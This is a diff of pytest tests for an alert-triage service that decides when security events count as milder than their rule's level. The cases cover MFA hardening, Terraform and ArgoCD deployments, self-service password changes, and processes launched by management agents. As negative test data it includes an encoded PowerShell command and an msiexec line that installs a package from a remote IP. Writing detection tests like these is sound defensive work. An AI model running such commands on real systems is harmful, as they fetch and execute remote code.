@@ -5,6 +5,7 @@ from __future__ import annotations
 import io
 import json
 
+import msgspec
 import pytest
 
 from svc.assistant.findings import AnyFinding, Finding, Severity
@@ -48,10 +49,73 @@ def event(category: str = "", **fields: str) -> Event:
         ({"operation_detail": "Two-Factor Authentication: from Off to On"}, Milder.HARDENING),
         ({"operation_detail": "Two-Factor Authentication: from On to Off"}, None),
         ({"change_description": "Role changed from Administrator to End User"}, Milder.DEMOTION),
+        (
+            {"new_value": '{"mfa": true, "name": "a"}', "old_value": '{"mfa": false, "name": "a"}', "setting": "mfa"},
+            Milder.HARDENING,
+        ),
+        ({"new_value": '{"mfa": false}', "old_value": '{"mfa": true}', "setting": "mfa"}, None),
+        (
+            {
+                "new_value": '{"state": "enabled"}',
+                "old_value": '{"state": "enabledForReportingButNotEnforced"}',
+                "Target": "conditional access policy",
+            },
+            Milder.HARDENING,
+        ),
     ],
 )
 def test_why_an_event_is_milder_than_its_action(fields: dict[str, str], why: Milder | None):
     assert milder(rule(), event(**fields)) is why
+
+
+@pytest.mark.parametrize(
+    ("action", "agent", "level", "why"),
+    [
+        ("role_created", "APN/1.0 HashiCorp/1.0 Terraform/1.9.5", "medium", Milder.DEPLOYMENT),
+        ("role_created", "argocd-application-controller/v2.11", "medium", Milder.DEPLOYMENT),
+        ("role_deleted", "APN/1.0 HashiCorp/1.0 Terraform/1.9.5", "medium", None),
+        ("role_created", "APN/1.0 HashiCorp/1.0 Terraform/1.9.5", "high", None),
+        ("role_created", "aws-cli/2.17.32", "medium", None),
+    ],
+)
+def test_what_a_deployment_tool_creates_is_milder(action: str, agent: str, level: str, why: Milder | None):
+    created = event(Action=action, userAgent=agent)
+
+    assert milder(msgspec.structs.replace(rule(), level=level), created) is why
+
+
+def test_what_an_account_for_deployment_creates_is_milder():
+    medium = msgspec.structs.replace(rule(), level="medium")
+
+    assert milder(medium, event(User="terraform@example.org")) is Milder.DEPLOYMENT
+    assert milder(medium, event(User="terrance@example.org")) is None
+
+
+def test_an_own_new_password_is_milder_than_that_of_another_account():
+    medium = msgspec.structs.replace(rule(), level="medium")
+    target = {"Action": "password_changed", "actor__alternateId": "eve@example.org"}
+
+    assert milder(medium, event(**target, target__alternateId="eve@example.org")) is Milder.OWN
+    assert milder(medium, event(**target, target__alternateId="root@example.org")) is None
+
+
+@pytest.mark.parametrize(
+    ("parent", "command", "why"),
+    [
+        (r"C:\Windows\CCM\CcmExec.exe", "powershell.exe -ExecutionPolicy Bypass -File a.ps1", Milder.MANAGED),
+        (r"C:\Program Files\Zabbix Agent 2\zabbix_agent2.exe", "sc query spooler", Milder.MANAGED),
+        ("/opt/puppetlabs/puppet/bin/puppet", "systemctl restart rsyslog", Milder.MANAGED),
+        (r"C:\Windows\CCM\CcmExec.exe", "powershell.exe -enc SQBFAFgA", None),
+        (r"C:\Windows\CCM\CcmExec.exe", "msiexec /i http://203.0.113.9/a.msi", None),
+        (r"C:\Users\eve\Windows\CCM\CcmExec.exe", "sc query spooler", None),
+        ("/tmp/puppet", "systemctl restart rsyslog", None),
+    ],
+)
+def test_what_management_software_starts_is_milder(parent: str, command: str, why: Milder | None):
+    started = event("process_creation", ParentImage=parent, CommandLine=command)
+
+    assert milder(msgspec.structs.replace(rule(), level="medium"), started) is why
+    assert milder(rule(), started) is None
 
 
 def test_a_rule_about_failures_keeps_its_level():
